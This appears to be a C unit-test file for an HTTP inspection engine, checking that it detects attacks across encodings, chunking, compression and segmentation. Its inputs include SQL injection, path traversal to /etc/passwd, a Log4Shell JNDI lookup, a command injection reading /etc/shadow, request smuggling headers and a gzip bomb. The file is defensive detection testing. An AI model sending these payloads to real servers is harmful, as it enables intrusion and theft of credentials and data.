@@ -1,0 +1,258 @@
+/* HTTP conversations: where a value is found in a message, however the message is encoded, framed and cut. */
+#include <stdio.h>
+#include <stdlib.h>
+#include <zlib.h>
+
+#include "inspect_rig.h"
+#include "unit.h"
+
+#define ATTACK "7 union select name, secret from accounts"
+#define ATTACK_URL "7+union+select+name,+secret+from+accounts"
+#define HEAD " HTTP/1.1\r\nHost: a.example\r\nUser-Agent: x\r\n"
+
+static struct bh_inspect_http conn;
+
+/* The client's bytes in steps of `step`, each in a block of its own (so that reading beyond is seen by a sanitizer). */
+static uint64_t
+says_side(unsigned side, const void *text, size_t len, size_t step, bool close)
+{
+	struct inspect_rig *r = inspect_rig();
+	size_t at;
+
+	bh_inspect_http_open(&conn);
+	if (side == 1)
+		bh_inspect_http_feed(&conn, &r->ctx, 0, (const uint8_t *)"GET /" HEAD "\r\n",
+				     7 + strlen(HEAD), false);
+	for (at = 0; at < len; at += step) {
+		size_t n = len - at < step ? len - at : step;
+		uint8_t *copy = malloc(n);
+
+		memcpy(copy, (const uint8_t *)text + at, n);
+		bh_inspect_http_feed(&conn, &r->ctx, side, copy, n, false);
+		free(copy);
+	}
+	if (close) {
+		bh_inspect_http_close(&conn, &r->ctx);
+		CU_ASSERT_EQUAL(r->taken, 0);
+	}
+	return r->seen;
+}
+
+static uint64_t
+says(const char *text)
+{
+	return says_side(0, text, strlen(text), strlen(text), true);
+}
+
+static uint64_t
+posts(const char *type, const void *body, size_t len, const char *more)
+{
+	static char text[200000];
+	size_t n =
+		(size_t)snprintf(text, sizeof(text),
+				 "POST /x" HEAD "Content-Type: %s\r\n%sContent-Length: %zu\r\n\r\n",
+				 type, more, len);
+
+	memcpy(text + n, body, len);
+	return says_side(0, text, n + len, n + len, true);
+}
+
+static void
+a_harmless_conversation_is_silent(void)
+{
+	CU_ASSERT_EQUAL(says("GET /shop/item.html?id=7&name=O%27Neill" HEAD
+			     "Accept: */*\r\nCookie: a=b; c=d\r\n\r\n"),
+			0);
+	CU_ASSERT_EQUAL(posts("application/json", "{\"a\":\"b\",\"c\":[1,2]}", 19, ""), 0);
+}
+
+static void
+an_attack_is_seen_in_each_place(void)
+{
+	struct inspect_rig *r;
+
+	CU_ASSERT(SAW(says("GET /x?a=1&id=" ATTACK_URL HEAD "\r\n"), SQLI));
+	r = inspect_rig();
+	CU_ASSERT(SAW(says("GET /x?a=1&id=" ATTACK_URL HEAD "\r\n"), SQLI));
+	CU_ASSERT_EQUAL(r->of[BH_INSPECT_SQLI].where, BH_AT_ARG);
+	CU_ASSERT_STRING_EQUAL(r->of[BH_INSPECT_SQLI].name, "id");
+	CU_ASSERT(SAW(says("GET /..%2f..%2fetc/passwd" HEAD "\r\n"), TRAVERSAL));
+	CU_ASSERT(SAW(says("GET /x" HEAD "Cookie: a=b; id=" ATTACK "\r\n\r\n"), SQLI));
+	CU_ASSERT(SAW(says("GET /x" HEAD "X-Item: " ATTACK "\r\n\r\n"), SQLI));
+	CU_ASSERT(SAW(says("GET /x" HEAD "Referer: ${jndi:ldap://x/y}\r\n\r\n"), LOG4SHELL));
+	CU_ASSERT(SAW(posts("application/x-www-form-urlencoded", "a=1&id=" ATTACK_URL,
+			    strlen("a=1&id=" ATTACK_URL), ""),
+		      SQLI));
+	CU_ASSERT(SAW(posts("application/json", "{\"a\":{\"id\":\"" ATTACK "\"}}",
+			    strlen("{\"a\":{\"id\":\"" ATTACK "\"}}"), ""),
+		      SQLI));
+	CU_ASSERT(SAW(posts("text/xml", "<a><b id=\"" ATTACK "\"/></a>",
+			    strlen("<a><b id=\"" ATTACK "\"/></a>"), ""),
+		      SQLI));
+}
+
+static void
+an_attack_is_seen_in_a_part(void)
+{
+	static const char body[] =
+		"--bb\r\nContent-Disposition: form-data; name=\"id\"\r\n\r\n" ATTACK "\r\n--bb\r\n"
+		"Content-Disposition: form-data; name=\"f\"; "
+		"filename=\"x.php\"\r\n\r\nhello\r\n--bb--\r\n";
+	uint64_t seen = posts("multipart/form-data; boundary=bb", body, sizeof(body) - 1, "");
+
+	CU_ASSERT(SAW(seen, SQLI));
+	CU_ASSERT(SAW(seen, PHP));
+}
+
+/* What deflate makes of text, in the given format (zlib's windowBits). */
+static size_t
+squeeze(uint8_t *out, size_t cap, const void *text, size_t len, int bits)
+{
+	z_stream z = {.next_in = (Bytef *)(uintptr_t)text,
+		      .avail_in = (uInt)len,
+		      .next_out = out,
+		      .avail_out = (uInt)cap};
+
+	CU_ASSERT_EQUAL(deflateInit2(&z, 6, Z_DEFLATED, bits, 8, Z_DEFAULT_STRATEGY), Z_OK);
+	CU_ASSERT_EQUAL(deflate(&z, Z_FINISH), Z_STREAM_END);
+	deflateEnd(&z);
+	return cap - z.avail_out;
+}
+
+static void
+compressed_bodies_are_read(void)
+{
+	static const char body[] = "a=1&id=" ATTACK_URL;
+	const char *form = "application/x-www-form-urlencoded";
+	uint8_t once[1000], twice[1000];
+	size_t n = squeeze(once, sizeof(once), body, sizeof(body) - 1, 31), m;
+
+	CU_ASSERT(SAW(posts(form, once, n, "Content-Encoding: gzip\r\n"), SQLI));
+	m = squeeze(twice, sizeof(twice), once, n, 31);
+	CU_ASSERT(SAW(posts(form, twice, m, "Content-Encoding: gzip, gzip\r\n"), SQLI));
+	n = squeeze(once, sizeof(once), body, sizeof(body) - 1, 15);
+	CU_ASSERT(SAW(posts(form, once, n, "Content-Encoding: deflate\r\n"), SQLI));
+	n = squeeze(once, sizeof(once), body, sizeof(body) - 1, -15);
+	CU_ASSERT(SAW(posts(form, once, n, "Content-Encoding: deflate\r\n"), SQLI));
+	CU_ASSERT(SAW(posts(form, "no gzip at all", 14, "Content-Encoding: gzip\r\n"), HTTP));
+}
+
+static void
+a_bomb_is_named_and_not_unpacked(void)
+{
+	static uint8_t zeros[4 << 20], packed[20000];
+	size_t n = squeeze(packed, sizeof(packed), zeros, sizeof(zeros), 31);
+
+	CU_ASSERT(SAW(posts("text/plain", packed, n, "Content-Encoding: gzip\r\n"), HTTP));
+}
+
+static void
+findings_do_not_depend_on_segments(void)
+{
+	static const char text[] =
+		"POST /x?p=..%2f..%2fetc%2fpasswd" HEAD
+		"Content-Type: application/x-www-form-urlencoded\r\n"
+		"Transfer-Encoding: chunked\r\n\r\n5\r\na=1&i\r\n2c\r\nd=" ATTACK_URL
+		"x\r\n0\r\n\r\n"
+		"GET /y?c=%3Bcat+/etc/shadow" HEAD "\r\n";
+	uint64_t whole = says(text);
+	size_t step;
+
+	CU_ASSERT(SAW(whole, SQLI));
+	CU_ASSERT(SAW(whole, TRAVERSAL));
+	CU_ASSERT(SAW(whole, CMDI));
+	for (step = 1; step < 60; step++)
+		CU_ASSERT_EQUAL(says_side(0, text, sizeof(text) - 1, step, true), whole);
+}
+
+static void
+an_attack_at_any_place_of_a_long_body_is_seen(void)
+{
+	static char body[100000];
+	size_t at;
+
+	for (at = 0; at < sizeof(body) - 200; at += 7919) {
+		memset(body, 'a', sizeof(body));
+		memcpy(body + at, "&id=" ATTACK_URL "&", strlen("&id=" ATTACK_URL "&"));
+		CU_ASSERT(SAW(posts("application/x-www-form-urlencoded", body, sizeof(body), ""),
+			      SQLI));
+	}
+}
+
+static void
+what_strict_http_refuses_is_read_all_the_same(void)
+{
+	uint64_t seen = says("GET /x?id=" ATTACK_URL HEAD
+			     "Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n");
+	static const char broken[] =
+		"GET  /x?id=" ATTACK_URL " HTTP/1.1\r\nHost: a\r\nX: ${jndi:ldap://x/y}\r\n\r\n";
+	size_t step;
+
+	CU_ASSERT(SAW(seen, SQLI));
+	CU_ASSERT(SAW(seen, SMUGGLING));
+	for (step = 1; step < 40; step++) {
+		seen = says_side(0, broken, sizeof(broken) - 1, step, true);
+		CU_ASSERT(SAW(seen, LOG4SHELL));
+		CU_ASSERT(SAW(seen, SQLI));
+		CU_ASSERT(SAW(seen, HTTP));
+	}
+}
+
+static void
+responses_are_read_for_leaks_and_data_only(void)
+{
+	static const char leak[] =
+		"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 79\r\n\r\n"
+		"<script>x()</script> You have an error in your SQL syntax; 4111 1111 1111 1111 \n";
+	uint64_t seen = says_side(1, leak, sizeof(leak) - 1, 9, true);
+
+	CU_ASSERT(SAW(seen, LEAK));
+	CU_ASSERT(SAW(seen, DLP_CARD));
+	CU_ASSERT_FALSE(SAW(seen, XSS));
+}
+
+static void
+each_message_reports_a_class_once(void)
+{
+	struct inspect_rig *r = inspect_rig();
+
+	says("GET /x?a=" ATTACK_URL "&b=" ATTACK_URL HEAD "\r\nGET /x?a=" ATTACK_URL HEAD "\r\n");
+	CU_ASSERT_EQUAL(r->n, 2);
+	CU_ASSERT_EQUAL(r->last.message, 1);
+}
+
+static void
+memory_that_is_refused_is_no_crash(void)
+{
+	static const char body[] = "a=1&id=" ATTACK_URL;
+	uint8_t packed[200];
+	char text[600];
+	size_t n = squeeze(packed, sizeof(packed), body, sizeof(body) - 1, 31), head;
+	struct inspect_rig *r = inspect_rig();
+
+	head = (size_t)snprintf(text, sizeof(text),
+				"POST /x" HEAD
+				"Content-Encoding: gzip\r\nContent-Length: %zu\r\n\r\n",
+				n);
+	memcpy(text + head, packed, n);
+	r->ctx.memory = NULL;
+	bh_inspect_http_open(&conn);
+	bh_inspect_http_feed(&conn, &r->ctx, 0, (const uint8_t *)text, head + n, false);
+	bh_inspect_http_close(&conn, &r->ctx);
+	CU_ASSERT_FALSE(SAW(r->seen, SQLI));
+}
+
+const struct bh_unit_test bh_suite_inspect_http[] = {
+	BH_TEST(a_harmless_conversation_is_silent),
+	BH_TEST(an_attack_is_seen_in_each_place),
+	BH_TEST(an_attack_is_seen_in_a_part),
+	BH_TEST(compressed_bodies_are_read),
+	BH_TEST(a_bomb_is_named_and_not_unpacked),
+	BH_TEST(findings_do_not_depend_on_segments),
+	BH_TEST(an_attack_at_any_place_of_a_long_body_is_seen),
+	BH_TEST(what_strict_http_refuses_is_read_all_the_same),
+	BH_TEST(responses_are_read_for_leaks_and_data_only),
+	BH_TEST(each_message_reports_a_class_once),
+	BH_TEST(memory_that_is_refused_is_no_crash),
+	BH_TEST_END,
+};
